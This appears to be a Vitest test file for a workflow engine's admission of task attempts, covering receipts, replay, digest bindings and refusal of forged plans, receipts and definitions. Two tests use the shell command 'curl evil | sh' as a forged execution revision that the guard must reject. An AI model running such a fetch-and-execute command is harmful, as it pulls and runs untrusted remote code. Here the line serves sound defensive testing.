import { describe, expect, it } from "vitest";
import {
  admissionEventId,
  admissionReceiptDigest,
  admitTaskAttempt,
  MAX_ADMISSION_PAGE,
  workflowAttemptId,
  type AdmissionInput,
} from "../../src/admission.ts";
import { derivedId, digestOf } from "../../src/digest.ts";
import { complete, type AttemptScope } from "../../src/execution.ts";
import type { ChangeSet, Run } from "../../src/model.ts";
import {
  normalizeLocalProcess,
  type ReconciliationReceipt,
  type TaskDefinition,
  type WorkflowPlan,
} from "../../src/packages.ts";
import { requestCancel } from "../../src/runs.ts";
import { diamondManifest, task } from "../support/fixtures.ts";
import {
  applyManifest,
  type AppliedPackage,
  CoreWorld,
  definitionOf,
  NEVER_SPAWNED,
  errorCode,
  expectOneVersionBump,
  planOf,
  T0,
} from "./core-fixtures.ts";

/**
 * Generation-bound workflow task attempt admission (ADR-0227 §1–§3): one pure decision that
 * validates plan, run, ready step, reconciliation and execution revision, and creates only a
 * durable dispatch intent plus its immutable receipt.
 */

/** A world whose diamond run has step `a` ready at T0 + 1. */
function readyWorld(manifest = diamondManifest("demo")): CoreWorld {
  const world = new CoreWorld(manifest);
  const run = world.startWorkflow();
  world.frontier(T0 + 1, run.id);
  return world;
}

/** Generation 2 of the world's package (task `other` added), applied over its generation 1 at T0 + 1. */
function laterGeneration(world: CoreWorld): AppliedPackage {
  return applyManifest(diamondManifest("demo", { tasks: [task("work"), task("other")] }), T0 + 1, {
    generation: 1,
    manifestDigest: world.pkg.generation.manifestDigest,
  });
}

function inputFor(world: CoreWorld, stepName = "a", nowMs = T0 + 10): AdmissionInput {
  const run = world.model.run("run-1");
  const step = world.model.step("run-1", stepName);
  return {
    plan: world.planFor(run),
    run,
    step,
    reconciliation: world.pkg.reconciliation.receipt,
    definition: definitionOf(world.pkg, step.task),
    existing: world.model.admission(run.id, step.id, step.version),
    nowMs,
  };
}

function refused(input: AdmissionInput): string {
  return errorCode(() => admitTaskAttempt(input));
}

describe("admission creates only a dispatch intent", () => {
  it("admission of a ready step creates a claimed attempt with a run-global number and the exact executor type", () => {
    const world = readyWorld();
    const result = admitTaskAttempt(inputFor(world));
    if (result.kind !== "admitted") throw new Error("expected an admission");
    const step = world.model.step("run-1", "a");
    expect(result.attempt).toMatchObject({
      id: workflowAttemptId("run-1", step.id, step.version),
      runId: "run-1",
      stepRunId: step.id,
      stepRunVersion: step.version,
      number: 1,
      status: "claimed",
      executor: "local_process",
      version: 1,
      createdAtMs: T0 + 10,
      startedAtMs: null,
      deadlineAtMs: null,
      timeoutMs: 60_000,
      leaseVersion: 0,
    });
  });

  it("admission keeps the step ready and the run running, bumps the run version exactly once and appends exactly one workflow.task_attempt_admitted event", () => {
    const world = readyWorld();
    const run = world.model.run("run-1");
    const result = admitTaskAttempt(inputFor(world));
    if (result.kind !== "admitted") throw new Error("expected an admission");
    expectOneVersionBump(result.change, run);
    expect(result.change.runs[0]?.after).toMatchObject({ status: "running", attemptSeq: 1 });
    expect(result.change.steps).toEqual([]);
    expect(result.change.mutations).toEqual([]);
    expect(result.change.events).toHaveLength(1);
    expect(result.change.events[0]).toMatchObject({
      id: admissionEventId(
        "run-1",
        world.model.step("run-1", "a").id,
        world.model.step("run-1", "a").version,
      ),
      type: "workflow.task_attempt_admitted",
      stepRunId: world.model.step("run-1", "a").id,
      attemptId: result.attempt.id,
      atMs: T0 + 10,
    });
    expect(result.change.attempts).toEqual([{ before: null, after: result.attempt }]);
    expect(result.change.admissions).toEqual([result.receipt]);
    expect(result.change.events[0]?.data).toEqual({
      to: "claimed",
      number: 1,
      step: "a",
      stepRunVersion: world.model.step("run-1", "a").version,
      taskRevision: definitionOf(world.pkg, "work").revision,
      executor: "local_process",
    });
  });

  it("attempt and event ids of an admission are derived from the ready epoch alone, each with its own prefix", () => {
    const attemptId = workflowAttemptId("run-1", "stp:a", 2);
    const eventId = admissionEventId("run-1", "stp:a", 2);
    expect(attemptId).toBe(derivedId("wta", ["run-1", "stp:a", 2]));
    expect(eventId).toBe(derivedId("wte", ["run-1", "stp:a", 2]));
    expect(attemptId).toMatch(/^wta:[0-9a-f]{32}$/);
    expect(eventId).toMatch(/^wte:[0-9a-f]{32}$/);
    expect(workflowAttemptId("run-1", "stp:a", 3)).not.toBe(attemptId);
    expect(workflowAttemptId("run-1", "stp:b", 2)).not.toBe(attemptId);
    expect(workflowAttemptId("run-2", "stp:a", 2)).not.toBe(attemptId);
  });

  it("admission never touches attemptCount: it grows only when the attempt enters running", () => {
    const world = readyWorld();
    const attempt = world.admit("run-1", "a", T0 + 10);
    expect(world.model.step("run-1", "a").attemptCount).toBe(0);
    world.markStarting(attempt.id, T0 + 11);
    expect(world.model.step("run-1", "a").attemptCount).toBe(0);
    world.markRunning(attempt.id, T0 + 12, T0 + 13);
    expect(world.model.step("run-1", "a").attemptCount).toBe(1);
  });

  it("the admission receipt binds plan, step epoch and digest, reconciliation, runtime task identity, definition and execution digests, attempt, event and run version fence", () => {
    const world = readyWorld();
    const input = inputFor(world);
    const result = admitTaskAttempt(input);
    if (result.kind !== "admitted") throw new Error("expected an admission");
    const definition = input.definition;
    expect(result.receipt).toEqual({
      runId: "run-1",
      stepRunId: input.step.id,
      stepRunVersion: input.step.version,
      stepRunDigest: input.step.digest,
      planDigest: input.plan.digest,
      reconciliationDigest: input.reconciliation.digest,
      runtimeTaskId: "pkg:demo:work",
      runtimeTaskRevision: definition.revision,
      taskDefinitionDigest: definition.definitionDigest,
      executionDigest: definition.executionDigest,
      attemptId: result.attempt.id,
      eventId: result.change.events[0]?.id,
      runVersion: input.run.version + 1,
      admittedAtMs: T0 + 10,
      digest: result.receipt.digest,
    });
    const { digest, ...body } = result.receipt;
    expect(digest).toBe(admissionReceiptDigest(body));
    expect(digest).toBe(digestOf(body));
    expect(result.change.runs[0]?.after.version).toBe(result.receipt.runVersion);
  });

  it("the runtime identity and revision come from the reconciliation item of the same generation", () => {
    const world = readyWorld();
    const result = admitTaskAttempt(inputFor(world));
    if (result.kind !== "admitted") throw new Error("expected an admission");
    const item = world.pkg.reconciliation.receipt.items.find(
      (candidate) => candidate.task === "work",
    );
    expect([
      result.receipt.runtimeTaskId,
      result.receipt.runtimeTaskRevision,
      result.receipt.executionDigest,
    ]).toEqual([item?.runtimeTaskId, item?.runtimeTaskRevision, item?.executionDigest]);
  });

  it("a local_process task admits a local_process attempt and a remote_worker task a remote_worker attempt", () => {
    const world = readyWorld(
      diamondManifest("demo", {
        tasks: [task("work", ["run"], { executor: "remote_worker", pool: "gpu" })],
      }),
    );
    const result = admitTaskAttempt(inputFor(world));
    if (result.kind !== "admitted") throw new Error("expected an admission");
    expect(result.attempt.executor).toBe("remote_worker");
  });

  it("attempt numbers are run-global: parallel ready steps are admitted independently and numbered in admission order", () => {
    const world = readyWorld();
    const a = world.admit("run-1", "a", T0 + 10);
    world.markStarting(a.id, T0 + 11);
    world.markRunning(a.id, T0 + 11, T0 + 12);
    world.apply(completeOk(world.model.scope(a.id), T0 + 13));
    world.frontier(T0 + 14);
    const c = world.admit("run-1", "c", T0 + 15);
    const b = world.admit("run-1", "b", T0 + 16);
    expect([a.number, c.number, b.number]).toEqual([1, 2, 3]);
    expect(world.model.run("run-1").attemptSeq).toBe(3);
    // Two attempts are live at once, one per step: DAG parallelism inside one aggregate.
    expect(
      world.model
        .attemptsOf("run-1")
        .filter((attempt) => attempt.status === "claimed")
        .map((attempt) => attempt.stepRunId),
    ).toEqual([world.model.step("run-1", "c").id, world.model.step("run-1", "b").id]);
  });
});

/** Completes a running attempt with exit 0 in time. */
function completeOk(scope: AttemptScope, nowMs: number): ChangeSet {
  return complete(
    scope,
    {
      startedAtMs: scope.attempt.startedAtMs ?? nowMs,
      finishedAtMs: nowMs,
      exitCode: 0,
      signal: null,
      stopReason: null,
      spawnError: null,
    },
    { max: 0, backoffMs: 0, idempotent: false },
    nowMs,
  );
}

describe("exact replay of a ready epoch", () => {
  it("admission replays the stored receipt for the same ready epoch and writes nothing", () => {
    const world = readyWorld();
    const attempt = world.admit("run-1", "a", T0 + 10);
    const receipt = world.model.admission("run-1", attempt.stepRunId!, attempt.stepRunVersion!);
    const changeSets = world.model.changeSets;
    const replay = world.tryAdmit("run-1", "a", T0 + 20);
    expect(replay).toEqual({ kind: "replayed", receipt });
    expect(world.model.changeSets).toBe(changeSets);
    expect(world.model.attemptsOf("run-1")).toHaveLength(1);
  });

  it("a lost commit response is answered by recomputing the same attempt id and reading the receipt, never by a second attempt", () => {
    const world = readyWorld();
    const first = admitTaskAttempt(inputFor(world, "a", T0 + 10));
    if (first.kind !== "admitted") throw new Error("expected an admission");
    world.apply(first.change);
    // The caller lost the response: the recomputed identity names the durable row.
    const step = world.model.step("run-1", "a");
    expect(workflowAttemptId("run-1", step.id, step.version)).toBe(first.attempt.id);
    expect(admitTaskAttempt(inputFor(world, "a", T0 + 30))).toEqual({
      kind: "replayed",
      receipt: first.receipt,
    });
  });

  it("a second admission of the same epoch cannot be written: the ledger holds one winner per epoch", () => {
    const world = readyWorld();
    const before = inputFor(world);
    world.admit("run-1", "a", T0 + 10);
    // A racing transaction that read before the winner committed computes a full admission;
    // the CAS on the run version (and the ledger's uniqueness) refuse it.
    const racing = admitTaskAttempt({ ...before, nowMs: T0 + 11 });
    if (racing.kind !== "admitted") throw new Error("the racing reader saw no receipt");
    expect(errorCode(() => world.model.apply(racing.change))).toBe("conflict");
    expect(world.model.attemptsOf("run-1")).toHaveLength(1);
  });

  it("admission refuses a stored receipt of another ready epoch", () => {
    const world = readyWorld();
    const attempt = world.admit("run-1", "a", T0 + 10);
    const receipt = world.model.admission("run-1", attempt.stepRunId!, attempt.stepRunVersion!)!;
    world.markStarting(attempt.id, T0 + 11);
    // Recovery opens a new epoch (no journal: the process never spawned).
    world.recover(attempt.id, NEVER_SPAWNED, T0 + 12);
    expect(world.model.step("run-1", "a").version).toBe(attempt.stepRunVersion! + 1);
    expect(refused({ ...inputFor(world, "a", T0 + 13), existing: receipt })).toBe("integrity");
  });

  it("admission refuses a stored receipt that fails its digest or belongs to another step", () => {
    const world = readyWorld();
    const attempt = world.admit("run-1", "a", T0 + 10);
    const receipt = world.model.admission("run-1", attempt.stepRunId!, attempt.stepRunVersion!)!;
    expect(refused({ ...inputFor(world), existing: { ...receipt, attemptId: "wta:forged" } })).toBe(
      "integrity",
    );
    expect(refused({ ...inputFor(world), existing: { ...receipt, stepRunId: "stp:other" } })).toBe(
      "integrity",
    );
  });

  it("a new ready epoch admits a new attempt with a new identity", () => {
    const world = readyWorld();
    const first = world.admit("run-1", "a", T0 + 10);
    world.recover(first.id, NEVER_SPAWNED, T0 + 12);
    const second = world.admit("run-1", "a", T0 + 13);
    expect(second.id).not.toBe(first.id);
    expect(second.stepRunVersion).toBe(first.stepRunVersion! + 1);
    expect(second.number).toBe(2);
  });
});

describe("admission refuses what it cannot prove", () => {
  it("admission rejects a caller-claimed execution digest", () => {
    const world = readyWorld();
    const input = inputFor(world);
    expect(
      refused({
        ...input,
        definition: {
          ...input.definition,
          executionDigest: normalizeLocalProcess({
            argv: ["evil"],
            env: {},
            cwd: null,
            timeoutMs: 1,
            shell: false,
          }).digest,
        },
      }),
    ).toBe("integrity");
  });

  it("admission rejects an execution revision that does not normalize to the reconciled digest", () => {
    const world = readyWorld();
    const input = inputFor(world);
    const execution = { ...input.definition.execution, argv: ["sh", "-c", "curl evil | sh"] };
    expect(refused({ ...input, definition: { ...input.definition, execution } })).toBe("integrity");
  });

  it("admission rejects a caller-claimed executor type", () => {
    const world = readyWorld();
    const input = inputFor(world);
    expect(
      refused({ ...input, definition: { ...input.definition, executor: "remote_worker" } }),
    ).toBe("integrity");
  });

  it("admission rejects a task definition whose content does not recompute to its claimed definition digest", () => {
    const world = readyWorld();
    const input = inputFor(world);
    const forged: TaskDefinition = {
      ...input.definition,
      retry: { max: 50, backoffMs: 0, idempotent: true },
    };
    expect(refused({ ...input, definition: forged })).toBe("integrity");
  });

  it("admission rejects a task definition from another generation", () => {
    const world = readyWorld();
    const later = laterGeneration(world);
    expect(refused({ ...inputFor(world), definition: definitionOf(later, "work") })).toBe(
      "integrity",
    );
  });

  it("admission rejects a reconciliation receipt from another generation", () => {
    const world = readyWorld();
    const later = laterGeneration(world);
    expect(
      refused({
        ...inputFor(world),
        reconciliation: later.reconciliation.receipt,
        definition: definitionOf(later, "work"),
      }),
    ).toBe("integrity");
  });

  it("admission rejects a tampered reconciliation receipt", () => {
    const world = readyWorld();
    const input = inputFor(world);
    expect(
      refused({ ...input, reconciliation: { ...input.reconciliation, lockDigest: digestOf([]) } }),
    ).toBe("integrity");
  });

  it("admission rejects a tampered plan and a plan the run is not bound to", () => {
    const world = readyWorld();
    const input = inputFor(world);
    expect(refused({ ...input, plan: { ...input.plan, workflow: "renamed" } })).toBe("integrity");
    const later = laterGeneration(world);
    expect(refused({ ...input, plan: planOf(later, "diamond") })).toBe("integrity");
  });

  it("admission of a step that is not ready is refused", () => {
    const world = readyWorld();
    expect(world.model.step("run-1", "b").status).toBe("pending");
    expect(refused(inputFor(world, "b"))).toBe("integrity");
    const attempt = world.admit("run-1", "a", T0 + 10);
    world.markStarting(attempt.id, T0 + 11);
    world.markRunning(attempt.id, T0 + 11, T0 + 12);
    expect(world.model.step("run-1", "a").status).toBe("running");
    expect(refused({ ...inputFor(world, "a", T0 + 13), existing: null })).toBe("integrity");
  });

  it("admission of a step of another run is refused", () => {
    const world = readyWorld();
    const other = world.startWorkflow("diamond", "run-2", T0 + 2);
    world.frontier(T0 + 3, other.id);
    expect(refused({ ...inputFor(world), step: world.model.step("run-2", "a") })).toBe("integrity");
  });

  it("admission refuses a run with a cancel intent, a run that is not running, and an ordinary run", () => {
    const world = readyWorld();
    const input = inputFor(world);
    const cancelled = requestCancel(input.run, T0 + 5, "user")!.runs[0]!.after;
    expect(refused({ ...input, run: cancelled })).toBe("integrity");
    const finished: Run = { ...input.run, status: "failed" };
    expect(refused({ ...input, run: finished })).toBe("integrity");
    expect(refused({ ...input, run: { ...input.run, kind: "ordinary" } })).toBe("integrity");
  });

  it("admission of a step waiting for its retry backoff is refused until the backoff passed", () => {
    const world = readyWorld();
    const input = inputFor(world);
    const waiting = { ...input.step, notBeforeMs: T0 + 100 };
    expect(refused({ ...input, step: waiting, nowMs: T0 + 99 })).toBe("integrity");
    expect(admitTaskAttempt({ ...input, step: waiting, nowMs: T0 + 100 }).kind).toBe("admitted");
  });

  it("admission at an observation time before the run's creation is a clock_regression", () => {
    const world = readyWorld();
    expect(refused(inputFor(world, "a", T0 - 1))).toBe("clock_regression");
  });
});

/** The refusal's message: each guard names what it refused, so a test can tell the guards apart. */
function refusal(input: AdmissionInput): string {
  try {
    admitTaskAttempt(input);
  } catch (error) {
    return String((error as Error).message);
  }
  return "admitted";
}

describe("each refusal is the guard's own", () => {
  it("run guards: an ordinary run, a run that is not running, a run with a cancel intent", () => {
    const input = inputFor(readyWorld());
    expect(refusal({ ...input, run: { ...input.run, kind: "ordinary" } })).toMatch(
      /run run-1 is not a workflow run/,
    );
    expect(refusal({ ...input, run: { ...input.run, status: "failed" } })).toMatch(
      /run run-1 is failed, not running/,
    );
    const cancelled = requestCancel(input.run, T0 + 5, "user")!.runs[0]!.after;
    expect(refusal({ ...input, run: cancelled })).toMatch(/run run-1 has a cancel intent/);
  });

  it("plan guards: a tampered plan and a plan the run is not bound to", () => {
    const world = readyWorld();
    const input = inputFor(world);
    expect(refusal({ ...input, plan: { ...input.plan, workflow: "renamed" } })).toMatch(
      /plan .* fails its digest/,
    );
    const later = laterGeneration(world);
    expect(refusal({ ...input, plan: planOf(later, "diamond") })).toMatch(
      /run run-1 is bound to plan .*, not /,
    );
  });

  it("step guards: another run's step, a step that is not ready, a step waiting for its backoff", () => {
    const world = readyWorld();
    const other = world.startWorkflow("diamond", "run-2", T0 + 2);
    world.frontier(T0 + 3, other.id);
    const input = inputFor(world);
    expect(refusal({ ...input, step: world.model.step("run-2", "a") })).toMatch(
      /is not part of run run-1/,
    );
    expect(refusal(inputFor(world, "b"))).toMatch(/is pending, not ready/);
    const waiting = { ...input.step, notBeforeMs: T0 + 11 };
    expect(refusal({ ...input, step: waiting, nowMs: T0 + 10 })).toMatch(
      /waits for its retry backoff/,
    );
    // Due exactly at its backoff: admitted.
    expect(refusal({ ...input, step: waiting, nowMs: T0 + 11 })).toBe("admitted");
    expect(refusal({ ...input, step: { ...input.step, task: "other" } })).toMatch(
      /step a is not in plan/,
    );
  });

  it("reconciliation guards: a tampered receipt and a receipt of another generation", () => {
    const world = readyWorld();
    const input = inputFor(world);
    expect(
      refusal({ ...input, reconciliation: { ...input.reconciliation, lockDigest: digestOf([]) } }),
    ).toMatch(/reconciliation receipt .* fails its digest/);
    const later = laterGeneration(world);
    expect(
      refusal({
        ...input,
        reconciliation: later.reconciliation.receipt,
        definition: definitionOf(later, "work"),
      }),
    ).toMatch(/reconciliation receipt is not the one the run and plan are bound to/);
  });

  it("definition guards: another generation's definition, a claimed execution digest, a changed revision, a claimed executor, a forged retry policy", () => {
    const world = readyWorld();
    const input = inputFor(world);
    const later = laterGeneration(world);
    expect(refusal({ ...input, definition: definitionOf(later, "work") })).toMatch(
      /task definition .* is not the reconciled/,
    );
    const claimed = normalizeLocalProcess({
      argv: ["evil"],
      env: {},
      cwd: null,
      timeoutMs: 1,
      shell: false,
    }).digest;
    expect(
      refusal({ ...input, definition: { ...input.definition, executionDigest: claimed } }),
    ).toMatch(/execution digest claimed .* but the revision normalizes to/);
    const execution = { ...input.definition.execution, argv: ["sh", "-c", "curl evil | sh"] };
    expect(refusal({ ...input, definition: { ...input.definition, execution } })).toMatch(
      /execution digest claimed/,
    );
    expect(
      refusal({ ...input, definition: { ...input.definition, executor: "remote_worker" } }),
    ).toMatch(/executor type remote_worker does not match its revision/);
    expect(
      refusal({
        ...input,
        definition: { ...input.definition, retry: { max: 50, backoffMs: 0, idempotent: true } },
      }),
    ).toMatch(/does not recompute to its claimed digest and revision/);
  });

  it("replay guards: a receipt of another step, of another epoch, or failing its digest", () => {
    const world = readyWorld();
    const attempt = world.admit("run-1", "a", T0 + 10);
    const receipt = world.model.admission("run-1", attempt.stepRunId!, attempt.stepRunVersion!)!;
    const input = inputFor(world);
    expect(refusal({ ...input, existing: { ...receipt, stepRunId: "stp:other" } })).toMatch(
      /stored receipt belongs to another step/,
    );
    expect(refusal({ ...input, existing: { ...receipt, runId: "run-9" } })).toMatch(
      /stored receipt belongs to another step/,
    );
    expect(
      refusal({ ...input, existing: { ...receipt, stepRunVersion: receipt.stepRunVersion + 1 } }),
    ).toMatch(/stored receipt belongs to ready epoch/);
    expect(refusal({ ...input, existing: { ...receipt, attemptId: "wta:forged" } })).toMatch(
      /stored receipt for wta:forged fails its digest/,
    );
  });
});

/** A plan with `patch` applied and its digest recomputed: it verifies, so only a binding guard can refuse it. */
function redigestedPlan(
  plan: WorkflowPlan,
  patch: Partial<Omit<WorkflowPlan, "digest">>,
): WorkflowPlan {
  const { digest: _old, ...body } = { ...plan, ...patch };
  return { ...body, digest: digestOf(body) };
}

/** A reconciliation receipt with `patch` applied, its lock and receipt digests recomputed. */
function redigestedReceipt(
  receipt: ReconciliationReceipt,
  patch: Partial<Omit<ReconciliationReceipt, "digest" | "lockDigest">>,
): ReconciliationReceipt {
  const { digest: _old, ...patched } = { ...receipt, ...patch };
  const body = { ...patched, lockDigest: digestOf(patched.items) };
  return { ...body, digest: digestOf(body) };
}

/**
 * The input with the run and plan bound to `reconciliation` and the run to `plan` (both
 * re-digested), so every digest and binding check before the guard under test passes.
 */
function boundTo(
  input: AdmissionInput,
  reconciliation: ReconciliationReceipt,
  planPatch: Partial<Omit<WorkflowPlan, "digest">> = {},
): AdmissionInput {
  const plan = redigestedPlan(input.plan, {
    ...planPatch,
    reconciliationDigest: reconciliation.digest,
  });
  return {
    ...input,
    plan,
    reconciliation,
    run: { ...input.run, planDigest: plan.digest, reconciliationDigest: reconciliation.digest },
  };
}

describe("guards behind a digest: a forged body that verifies is still refused by its binding", () => {
  it("the bound fixture itself is admitted: each case below differs from it in one field", () => {
    const input = inputFor(readyWorld());
    expect(refusal(boundTo(input, input.reconciliation))).toBe("admitted");
  });

  it("a verifying plan of another package or generation, with the run bound to its digest, is refused", () => {
    const input = inputFor(readyWorld());
    for (const patch of [{ package: "other" }, { generation: 2 }]) {
      const plan = redigestedPlan(input.plan, patch);
      expect(refusal({ ...input, plan, run: { ...input.run, planDigest: plan.digest } })).toMatch(
        /plan and run belong to different generations/,
      );
    }
  });

  it("a reconciliation receipt bound to the run but not the plan, or to the plan but not the run, is refused", () => {
    const world = readyWorld();
    const input = inputFor(world);
    const other = redigestedReceipt(input.reconciliation, { createdAtMs: T0 + 99 });
    const message = /reconciliation receipt is not the one the run and plan are bound to/;
    expect(
      refusal({
        ...input,
        reconciliation: other,
        run: { ...input.run, reconciliationDigest: other.digest },
      }),
    ).toMatch(message);
    const bound = boundTo(input, other);
    expect(
      refusal({
        ...bound,
        run: { ...bound.run, reconciliationDigest: input.reconciliation.digest },
      }),
    ).toMatch(message);
  });

  it("a bound reconciliation receipt of another package, generation or manifest is refused", () => {
    const input = inputFor(readyWorld());
    for (const patch of [
      { package: "other" },
      { generation: 2 },
      { manifestDigest: digestOf(["another manifest"]) },
    ]) {
      expect(refusal(boundTo(input, redigestedReceipt(input.reconciliation, patch)))).toMatch(
        /reconciliation receipt belongs to another generation/,
      );
    }
  });

  it("a task the bound reconciliation does not reconcile is refused", () => {
    const input = inputFor(readyWorld());
    const receipt = redigestedReceipt(input.reconciliation, {
      items: input.reconciliation.items.filter((item) => item.task !== "work"),
    });
    expect(refusal(boundTo(input, receipt))).toMatch(/task work is not reconciled in generation 1/);
  });

  it("a plan step whose source task digest is not the reconciled definition's is refused", () => {
    const input = inputFor(readyWorld());
    const steps = input.plan.steps.map((step) =>
      step.name === "a" ? { ...step, sourceTaskDigest: digestOf(["another task"]) } : step,
    );
    expect(refusal(boundTo(input, input.reconciliation, { steps }))).toMatch(
      /task work differs from the plan's source task/,
    );
  });

  it("a definition whose id, revision or definition digest is not the reconciled item's is refused by the identity guard", () => {
    const input = inputFor(readyWorld());
    for (const patch of [
      { id: "pkg:demo:other" },
      { revision: "qltd:v1:1:forged" },
      { definitionDigest: digestOf(["another definition"]) },
    ]) {
      expect(refusal({ ...input, definition: { ...input.definition, ...patch } })).toMatch(
        /task definition .* is not the reconciled qltd:v1:1:/,
      );
    }
  });

  it("a bound reconciliation item naming another execution digest than the definition's is refused", () => {
    const input = inputFor(readyWorld());
    const items = input.reconciliation.items.map((item) =>
      item.task === "work" ? { ...item, executionDigest: digestOf(["another execution"]) } : item,
    );
    expect(refusal(boundTo(input, redigestedReceipt(input.reconciliation, { items })))).toMatch(
      /execution digest claimed .* but the revision normalizes to/,
    );
  });
});

describe("admission reads the plan step and the reconciliation item of its own step", () => {
  it("the plan step is the one named like the step: a forged source digest on another step does not matter, on its own it refuses", () => {
    const world = readyWorld();
    const input = inputFor(world);
    const forging = (name: string) =>
      input.plan.steps.map((step) =>
        step.name === name ? { ...step, sourceTaskDigest: digestOf(["forged"]) } : step,
      );
    expect(input.plan.steps.map((step) => step.name)).toEqual(["a", "b", "c", "d"]);
    expect(refusal(boundTo(input, input.reconciliation, { steps: forging("b") }))).toBe("admitted");
    const forgedFirst = boundTo(input, input.reconciliation, { steps: forging("a") });
    expect(refusal(forgedFirst)).toMatch(/differs from the plan's source task/);
    // Step b, made ready here, reads its own plan step and not the first one.
    const b = {
      ...forgedFirst,
      step: { ...inputFor(world, "b").step, status: "ready" as const },
    };
    expect(refusal(b)).toBe("admitted");
  });

  it("a step whose name the plan does not hold is refused as not in the plan", () => {
    const input = inputFor(readyWorld());
    expect(refusal({ ...input, step: { ...input.step, name: "zzz" } })).toMatch(
      /step zzz is not in plan/,
    );
  });

  it("the reconciliation item is the one of the step's task, wherever it stands in the receipt", () => {
    const input = inputFor(readyWorld());
    const decoy = {
      task: "decoy",
      runtimeTaskId: "pkg:demo:decoy",
      runtimeTaskRevision: "qltd:v1:1:decoy",
      definitionDigest: digestOf(["decoy"]),
      executionDigest: digestOf(["decoy execution"]),
    };
    const receipt = redigestedReceipt(input.reconciliation, {
      items: [decoy, ...input.reconciliation.items],
    });
    expect(refusal(boundTo(input, receipt))).toBe("admitted");
  });
});

describe("bounded candidate pages", () => {
  it("the admission page is named once: 64 (ADR-0227 §3)", () => {
    expect(MAX_ADMISSION_PAGE).toBe(64);
  });
});
